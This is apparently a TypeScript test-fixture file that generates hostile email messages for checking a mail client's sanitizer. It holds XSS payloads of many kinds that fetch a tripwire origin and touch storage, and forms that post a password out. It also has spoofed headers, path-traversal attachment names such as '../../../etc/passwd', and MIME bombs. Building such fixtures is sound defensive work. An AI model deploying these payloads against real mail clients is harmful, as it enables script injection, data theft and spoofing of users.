// Hostile messages: every way mail has tried to run a script, reach the network, navigate, or pass
// itself off as something else. All their remote URLs point at a tripwire server (tripwire.ts).
import { crlf, plainMail } from './mail.js';

const encoder = new TextEncoder();
const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/**
 * What every script payload tries: a request, a message to the app's window, the app's title and its
 * storage. Backticks only, no spaces: it fits in quoted and unquoted attributes and in URLs alike.
 */
function payload(origin: string, tag: string): string {
  return (
    `fetch(\`${origin}/script/${tag}\`);parent.postMessage(\`pwned:${tag}\`,\`*\`);` +
    `top.document.title=\`pwned\`;localStorage.setItem(\`pwned\`,\`${tag}\`)`
  );
}

function htmlMail(subject: string, html: string): Uint8Array {
  return encoder.encode(
    crlf(
      [
        'From: Hostile <hostile@example.test>',
        'To: alice@example.test',
        `Subject: ${subject}`,
        'Date: Mon, 02 Nov 2026 10:00:00 +0000',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        'Content-Transfer-Encoding: 8bit',
        '',
        html,
      ].join('\n'),
    ),
  );
}

export interface HostileHtml {
  /** The class of attack, also in the subject: "Hostile: <name>". */
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** One HTML message per class of attack; each shows "Payload class: <name>" when rendered. */
export function hostileHtmlMessages(origin: string): HostileHtml[] {
  const P = (tag: string) => payload(origin, tag);
  const classes: Array<[string, string, string?]> = [
    [
      'script tags',
      `<script>${P('script')}</script><script src="${origin}/leak/script.js"></script>` +
        `<SCRIPT>${P('script-upper')}</SCRIPT><scr<script>ipt>${P('split')}</script>` +
        `<noscript><p title="</noscript><img src=x onerror=${P('noscript')}>"></noscript>` +
        `<template><script>${P('template')}</script></template>`,
    ],
    [
      'event handlers',
      `<img src=x onerror="${P('onerror')}"><div onmouseover="${P('mouseover')}" onclick="${P('onclick')}"` +
        ` style="height:60px;background:#eef">hover or click here</div>` +
        `<details open ontoggle="${P('ontoggle')}"><summary>details</summary></details>` +
        `<input autofocus onfocus="${P('onfocus')}"><video><source onerror="${P('source')}"></video>` +
        `<marquee onstart="${P('marquee')}">marquee</marquee>`,
      ` onload="${P('body-onload')}"`,
    ],
    [
      'javascript URLs',
      `<a href="javascript:${P('js-link')}">a javascript link</a> ` +
        `<a href="JaVaScRiPt:${P('js-case')}">mixed case</a> <a href="jav&#x09;ascript:${P('js-tab')}">tab</a> ` +
        `<a href="&#106;avascript:${P('js-entity')}">entity</a><iframe src="javascript:${P('js-iframe')}"></iframe>` +
        `<img src="javascript:${P('js-img')}"><form action="javascript:${P('js-form')}"><button>go</button></form>`,
    ],
    [
      'data URLs',
      `<a href="data:text/html;base64,${base64(`<script>${P('data-link')}</script>`)}">a data link</a>` +
        `<iframe src="data:text/html,<script>${P('data-iframe')}</script>"></iframe>` +
        `<object data="data:text/html;base64,${base64(`<script>${P('data-object')}</script>`)}"></object>` +
        `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${P('data-embed')}"/>`)}">` +
        `<img alt="svg in img" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${P('data-img')}"><script>${P('data-img-script')}</script></svg>`)}">`,
    ],
    [
      'SVG',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${P('svg-onload')}">` +
        `<script>${P('svg-script')}</script><a xlink:href="javascript:${P('svg-a')}"><text x="10" y="20">svg link</text></a>` +
        `<animate attributeName="href" values="javascript:${P('svg-animate')}"/>` +
        `<foreignObject><iframe src="${origin}/leak/svg-iframe"></iframe></foreignObject>` +
        `<image href="${origin}/leak/svg-image"/><use href="${origin}/leak/svg-use#x"/></svg>`,
    ],
    [
      'MathML',
      `<math><maction actiontype="statusline" xlink:href="javascript:${P('math-action')}">x</maction>` +
        `<mtext><img src=x onerror="${P('math-img')}"></mtext><mi href="javascript:${P('math-href')}">y</mi>` +
        `<mglyph><style><img src=x onerror="${P('math-style')}"></style></mglyph></math>`,
    ],
    [
      'CSS that fetches',
      `<style>@import url(${origin}/leak/import.css);@import '${origin}/leak/import2.css';` +
        `body{background:url(${origin}/leak/css-bg)}@font-face{font-family:x;src:url(${origin}/leak/font.woff)}` +
        `p.f{font-family:x}div.s{background-image:image-set("${origin}/leak/image-set" 1x)}` +
        `div.e{background:\\75 rl(${origin}/leak/escaped)}li{list-style:url(${origin}/leak/list)}</style>` +
        `<link rel="stylesheet" href="${origin}/leak/link.css"><p class="f">font</p><div class="s">set</div>` +
        `<div class="e">escaped</div><ul><li>item</li></ul><div style="background:url('${origin}/leak/inline-style')">inline</div>` +
        `<div style="behavior:url(${origin}/leak/behavior.htc);-moz-binding:url(${origin}/leak/binding.xml)">old</div>`,
    ],
    [
      'meta refresh',
      `<meta http-equiv="refresh" content="0;url=${origin}/leak/refresh">` +
        `<meta http-equiv="refresh" content="1;url=javascript:${P('refresh-js')}">` +
        `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    ],
    [
      'base href',
      `<base href="${origin}/leak/base/"><img src="relative.png" alt="relative"><a href="relative-link">relative link</a>` +
        `<link rel="stylesheet" href="relative.css">`,
    ],
    [
      'forms',
      `<form action="${origin}/leak/form" method="post"><input name="password" type="password" value="secret">` +
        `<button type="submit">Send the form</button><button formaction="${origin}/leak/formaction">Send elsewhere</button></form>` +
        `<input type="image" src="${origin}/leak/input-image" alt="image button">`,
    ],
    [
      'iframes and srcdoc',
      `<iframe src="${origin}/leak/iframe"></iframe>` +
        `<iframe srcdoc="<script>${P('srcdoc')}</script><img src='${origin}/leak/srcdoc-img'>"></iframe>` +
        `<frameset><frame src="${origin}/leak/frame"></frameset><portal src="${origin}/leak/portal"></portal>`,
    ],
    [
      'object',
      `<object data="${origin}/leak/object" type="text/html"></object>` +
        `<object type="application/x-shockwave-flash" data="${origin}/leak/flash.swf"><param name="movie" value="${origin}/leak/param.swf"></object>` +
        `<embed src="${origin}/leak/embed" type="text/html"><applet code="x" codebase="${origin}/leak/applet"></applet>`,
    ],
  ];
  return classes.map(([name, html, bodyAttributes = '']) => ({
    name,
    bytes: htmlMail(
      `Hostile: ${name}`,
      `<html><head><title>t</title></head><body${bodyAttributes}><p>Payload class: ${name}</p>${html}</body></html>`,
    ),
  }));
}

/** Remote content of every kind: after "Show images" only the /img/ URLs may load. */
export function remoteContentMessage(origin: string): Uint8Array {
  return htmlMail(
    'Hostile: remote content',
    `<html><body><p>Payload class: remote content</p><img src="${origin}/img/pixel.png" alt="pixel">` +
      `<div style="background:url(${origin}/img/background.png);height:20px">background</div>` +
      `<img srcset="${origin}/img/srcset.png 1x" alt="srcset"><video src="${origin}/leak/video.mp4" poster="${origin}/img/poster.png"></video>` +
      `<audio src="${origin}/leak/audio.mp3"></audio><style>@import url(${origin}/leak/import.css);</style>` +
      `<iframe src="${origin}/leak/iframe"></iframe><object data="${origin}/leak/object"></object>` +
      `<link rel="prefetch" href="${origin}/leak/prefetch"><a href="${origin}/leak/link" ping="${origin}/leak/ping">a link</a></body></html>`,
  );
}

/** Plain text whose script and data URLs must stay text. */
export function plainTextUrlsMessage(): Uint8Array {
  return plainMail({
    subject: 'Hostile: URLs in plain text',
    body:
      'javascript:alert(1)\ndata:text/html,<script>alert(2)</script>\n' +
      '<a href="https://example.test/html">not a link</a>\nA real link: https://example.test/ok',
  });
}

/** Headers that try to put markup into the list, or to read differently from what they are. */
export function hostileHeaderMessages(origin: string): Uint8Array[] {
  const P = (tag: string) => payload(origin, tag);
  return [
    plainMail({
      subject: `<img src=x onerror="${P('subject')}"><b>Bold</b> subject`,
      from: `"<script>${P('from')}</script>" <evil@example.test>`,
      body: 'Markup in the subject and sender.',
    }),
    plainMail({
      subject: `=?UTF-8?B?${base64('<svg onload=alert(1)>Encoded markup')}?=`,
      body: 'Markup in an encoded word.',
    }),
    plainMail({
      subject: 'Invoice \u202Egnp.exe \u2067isolated\u2069',
      from: '"\u202Eecnanif" <finance@example.test>',
      body: 'Bidi overrides in the subject and sender.',
    }),
    plainMail({
      subject: `Long subject ${'x'.repeat(100_000)}`,
      from: `"${'N'.repeat(10_000)}" <long@example.test>`,
      body: 'Very long header values.',
    }),
  ];
}

export interface HostileAttachment {
  /** The Content-Disposition filename parameter as sent (RFC 2231 encoded where it has to be). */
  readonly header: string;
  /** The name the app must show and download under. */
  readonly safe: string;
  readonly content: string;
}

export const hostileAttachments: readonly HostileAttachment[] = [
  { header: 'filename="../../../etc/passwd"', safe: 'passwd', content: 'one' },
  { header: 'filename="..\\\\..\\\\Windows\\\\System32\\\\evil.dll"', safe: 'evil.dll', content: 'two' },
  { header: "filename*=UTF-8''invoice%E2%80%AEfdp.exe", safe: 'invoicefdp.exe', content: 'three' },
  { header: "filename*=UTF-8''bell%07new%0Aline%0D.txt", safe: 'bellnewline.txt', content: 'four' },
  { header: 'filename="..."', safe: 'attachment-5', content: 'five' },
  { header: 'filename="CON.txt"', safe: '_CON.txt', content: 'six' },
  { header: 'filename="/etc/shadow"', safe: 'shadow', content: 'seven' },
];

export function hostileAttachmentMessage(): Uint8Array {
  const parts = hostileAttachments.map(
    ({ header, content }) =>
      `--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; ${header}\n` +
      `Content-Transfer-Encoding: base64\n\n${base64(content)}\n`,
  );
  return encoder.encode(
    crlf(
      [
        'From: Hostile <hostile@example.test>',
        'To: alice@example.test',
        'Subject: Hostile: attachment names',
        'Date: Mon, 02 Nov 2026 11:00:00 +0000',
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="b"',
        '',
        '--b',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Attachments with hostile names.',
        ...parts,
        '--b--',
        '',
      ].join('\n'),
    ),
  );
}

/** `levels` nested multipart/mixed parts. */
export function deepMimeBomb(levels: number): Uint8Array {
  let text = 'From: bomb@example.test\nSubject: Hostile: MIME bomb, deep\nMIME-Version: 1.0\n';
  for (let i = 0; i < levels; i++) text += `Content-Type: multipart/mixed; boundary="d${i}"\n\n--d${i}\n`;
  text += 'Content-Type: text/plain\n\nthe bottom\n';
  for (let i = levels - 1; i >= 0; i--) text += `--d${i}--\n`;
  return encoder.encode(crlf(text));
}

/** One multipart with `parts` small attachments. */
export function wideMimeBomb(parts: number): Uint8Array {
  let text =
    'From: bomb@example.test\nSubject: Hostile: MIME bomb, wide\nMIME-Version: 1.0\n' +
    'Content-Type: multipart/mixed; boundary="w"\n\n';
  for (let i = 0; i < parts; i++) {
    text += `--w\nContent-Type: text/plain\nContent-Disposition: attachment; filename="part-${i}.txt"\n\npart ${i}\n`;
  }
  return encoder.encode(crlf(`${text}--w--\n`));
}
